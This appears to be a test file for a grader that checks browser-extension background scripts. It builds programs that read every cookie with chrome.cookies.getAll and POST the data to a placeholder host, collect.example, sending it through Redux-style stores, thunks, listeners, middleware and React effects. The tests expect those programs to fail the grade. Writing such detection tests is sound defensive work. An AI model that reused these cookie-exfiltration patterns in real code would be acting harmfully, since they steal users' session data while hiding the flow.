import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* Stores with reducers; the library's code is not in the package. */

const send = (data: string): string =>
  `fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(${data}) });`;
const SLICE =
  "const jar = make({ name: 'jar', initialState: { all: [] }, reducers: { got(state, action) { state.all = action.payload; }, none: (state) => ({ ...state, all: [] }) } }); const store = build({ reducer: { jar: jar.reducer } });";

it.each<[string, (taken: string) => string]>([
  [
    'a slice whose reducer writes into the state',
    (taken) =>
      `${SLICE} ${taken}.then((all) => store.dispatch(jar.actions.got(all))); store.subscribe(() => { ${send('store.getState().jar.all')} });`,
  ],
  [
    'a slice whose actions and state have names of their own',
    (taken) =>
      `${SLICE} const { got: keep } = jar.actions; const pick = (state) => state.jar.all; ${taken}.then((all) => store.dispatch(keep(all))); setInterval(() => { ${send('pick(store.getState())')} }, 9000);`,
  ],
  [
    'a thunk that asks for the state',
    (taken) =>
      `${SLICE} const tell = later('jar/tell', async (_, { getState: now }) => { ${send('now().jar.all')} }); ${taken}.then((all) => { store.dispatch(jar.actions.got(all)); store.dispatch(tell()); });`,
  ],
  [
    'a reducer that gives a new state',
    (taken) =>
      `const reduce = (state = {}, action) => { switch (action.type) { case 'got': return { ...state, all: action.all }; default: return state; } }; const store = make(reduce); ${taken}.then((all) => store.dispatch({ type: 'got', all })); store.subscribe(() => { ${send('store.getState().all')} });`,
  ],
  [
    'what listens to an action',
    (taken) =>
      `${SLICE} listen({ actionCreator: jar.actions.got, effect: async (action) => { ${send('action.payload')} } }); ${taken}.then((all) => store.dispatch(jar.actions.got(all)));`,
  ],
  [
    'what stands before the reducers',
    (taken) =>
      `const log = (store) => (next) => (action) => { ${send('action')} return next(action); }; const store = make(log); ${taken}.then((all) => store.dispatch({ type: 'got', all }));`,
  ],
  [
    'a selector of a component',
    (taken) =>
      `${SLICE} function View() { const put = useDispatch(); const all = useSelector((state) => state.jar.all); useEffect(() => { ${taken}.then((some) => put(jar.actions.got(some))); }, []); useEffect(() => { ${send('all')} }, [all]); } View();`,
  ],
])('data goes on by %s', async (_, program) => {
  expect(await graded({ background: program('chrome.cookies.getAll({})') })).toBe('F');
  expect(await graded({ background: program('Promise.resolve([1])') })).toMatch(/^A/);
});

it('is one part of the state, not all of it', async () => {
  const program = `${SLICE} chrome.cookies.getAll({}).then((all) => store.dispatch(jar.actions.got(all))); ${send('store.getState().jar.count')}`;
  expect(await graded({ background: program })).toMatch(/^A/);
});
